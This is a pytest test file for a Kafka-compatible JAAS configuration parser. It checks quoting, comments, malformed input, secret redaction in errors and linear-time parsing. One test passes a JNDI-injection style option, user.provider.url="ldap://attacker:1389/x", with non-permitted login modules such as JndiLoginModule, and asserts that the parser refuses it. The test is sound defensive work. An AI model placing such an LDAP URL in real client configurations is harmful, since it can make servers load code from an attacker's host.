"""JAAS texts: parsed as Kafka parses them, never executed, and never shown."""

from __future__ import annotations

import pytest

from kafkacompat.security.jaas import JaasError, find_login, parse_jaas

PLAIN = "org.apache.kafka.common.security.plain.PlainLoginModule"
SCRAM = "org.apache.kafka.common.security.scram.ScramLoginModule"


def test_options_with_quotes_escapes_comments_and_lines() -> None:
    text = f"""{PLAIN} required // the users
        user_alice="a \\"quoted\\" word" /* a
        comment */ user_bob='b;=/' user_carol=plain\tuser_empty=""; """
    (entry,) = parse_jaas(text)
    assert (entry.module, entry.family) == (PLAIN, "PLAIN")
    assert entry.options == {
        "user_alice": 'a "quoted" word',
        "user_bob": "b;=/",
        "user_carol": "plain",
        "user_empty": "",
    }


def test_several_modules() -> None:
    entries = parse_jaas(f'{PLAIN} REQUIRED user_a="1"; {SCRAM} sufficient username="x" password="y";')
    scram = find_login(entries, "SCRAM")
    assert scram is not None and scram.options["username"] == "x"
    assert find_login(entries, "OAUTHBEARER") is None


@pytest.mark.parametrize(
    "module",
    [
        "com.sun.security.auth.module.JndiLoginModule",
        "com.sun.security.auth.module.LdapLoginModule",
        "com.sun.security.auth.module.Krb5LoginModule",
        "org.apache.kafka.common.security.plain.PlainLoginModule2",
        "os.system",
    ],
)
def test_no_other_login_module_is_served(module: str) -> None:
    with pytest.raises(JaasError, match="is not served: it takes one of org") as refused:
        parse_jaas(f'{module} required user.provider.url="ldap://attacker:1389/x";')
    assert "attacker" not in str(refused.value)


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("", "no login module"),
        ("  // nothing", "no login module"),
        (";", "is not served"),
        (PLAIN, "no control flag"),
        (f"{PLAIN} always;", "no control flag"),
        (f'{PLAIN} required user_a="secret"', "semicolon"),
        (f'{PLAIN} required user_a="secret;', "closing quote"),
        (f'{PLAIN} required user_a "secret";', "option 1 of a login module is not NAME=VALUE"),
        (f'{PLAIN} required user_a="x" user_b=;', "option 2 of a login module is not NAME=VALUE"),
        (f'{PLAIN} required user_a="x"; secret', "is not served"),
    ],
)
def test_malformed_texts(text: str, words: str) -> None:
    with pytest.raises(JaasError, match=words):
        parse_jaas(text)


def test_a_part_of_a_password_is_not_shown_as_a_module() -> None:
    with pytest.raises(JaasError, match="the login module is not served") as refused:
        parse_jaas(f"{PLAIN} required username=a password=s3c;ret.part required;")
    assert "part" not in str(refused.value)


def test_no_secret_is_shown() -> None:
    (entry,) = parse_jaas(f'{PLAIN} required user_alice="alice-secret" password="pw-secret";')
    assert "secret" not in repr(entry) and "user_alice" in repr(entry)
    with pytest.raises(JaasError) as refused:
        parse_jaas(f'{PLAIN} required user_alice="alice-secret" password')
    assert "secret" not in str(refused.value)


def test_a_long_text_takes_linear_time() -> None:
    text = f"{PLAIN} required " + " ".join(f'user_{number}="{"x" * 20}"' for number in range(5000)) + ";"
    assert len(parse_jaas(text)[0].options) == 5000
    with pytest.raises(JaasError):
        parse_jaas('"' + "\\" * 200_001)
